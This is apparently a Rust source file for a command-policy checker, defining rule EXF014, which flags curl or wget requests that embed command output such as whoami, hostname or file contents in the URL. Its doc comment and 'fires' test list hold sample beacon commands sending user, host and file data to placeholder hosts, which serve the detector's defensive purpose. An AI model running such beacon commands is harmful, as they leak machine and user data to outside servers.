//! Command output spelled into a request URL: `curl
//! "https://x.example/?u=$(whoami)&h=$(hostname)"`. The request carries the
//! output to the server whatever it answers (POLICY.md: local data sent to
//! an outside destination). Secrets so sent are `EXF001`'s deny; names in
//! the host part are `EXF008`'s.
//!
//! Output that says nothing about the machine (`date`, `seq`, `uuidgen`,
//! `printf` of constants) is not data.

use crate::rules::prelude::*;
use crate::rules::shared::transfer::{is_local_host, url_host};

pub(crate) static RULE: Rule = Rule {
    code: "EXF014",
    name: "command-output-in-url",
    category: Category::Exfiltration,
    decision: Decision::Ask,
    commands: &["curl", "wget", "http", "https", "xh", "curlie", "lynx", "links", "aria2c"],
    summary: "sends command output to a remote server inside the request URL",
    why: "User names, host names, paths and file contents in a URL reach the server and its logs; it is a classic beacon.",
    check,
    fires: &[
        "curl -s \"https://beacon.example.net/ping?u=$(whoami)&h=$(hostname)\"",
        "wget -qO- https://collect.example.org/$(uname -a | base64 -w0)",
        "curl https://x.example.com/?d=`cat notes.txt`",
        "curl \"https://api.example.com/log?cwd=$(pwd)\"",
    ],
    passes: &[
        "curl \"https://api.example.com/items?since=$(date +%s)\"",
        "curl http://localhost:8080/?u=$(whoami)",
        "curl https://api.github.com/repos/o/r",
        "curl \"https://api.example.com/items/$(printf %d 42)\"",
        "curl -s https://ci.example.com/builds/$(git rev-parse --short HEAD)",
    ],
};

/// Programs whose output says nothing about the machine or its data.
const NOT_DATA: &[&str] = &["date", "seq", "uuidgen", "echo", "printf", "expr", "shuf", "mktemp", "true", "false", "sleep"];

/// `git rev-parse HEAD`, `git describe --tags`: a revision name, which
/// the project publishes anyway.
fn names_a_revision(c: &Command) -> bool {
    c.name == "git" && ["rev-parse", "describe", "rev-list", "symbolic-ref"].iter().any(|s| c.is_sub(&[s]))
}

fn check(cmd: &Command, cx: &Context<'_>) -> Option<Hit> {
    let url = cmd.args.iter().find(|w| {
        if !w.is_url() || w.sources.is_empty() {
            return false;
        }
        if url_host(&w.text).is_none_or(|h| is_local_host(&h)) {
            return false;
        }
        w.sources.iter().filter_map(|&id| cx.script.commands.get(id)).any(|c| !NOT_DATA.contains(&c.name.as_str()) && !names_a_revision(c))
    })?;
    Some(Hit::on(url).with_message(format!("`{}` puts command output into the request to `{}`", cmd.name, url_host(&url.text).unwrap_or_default())))
}
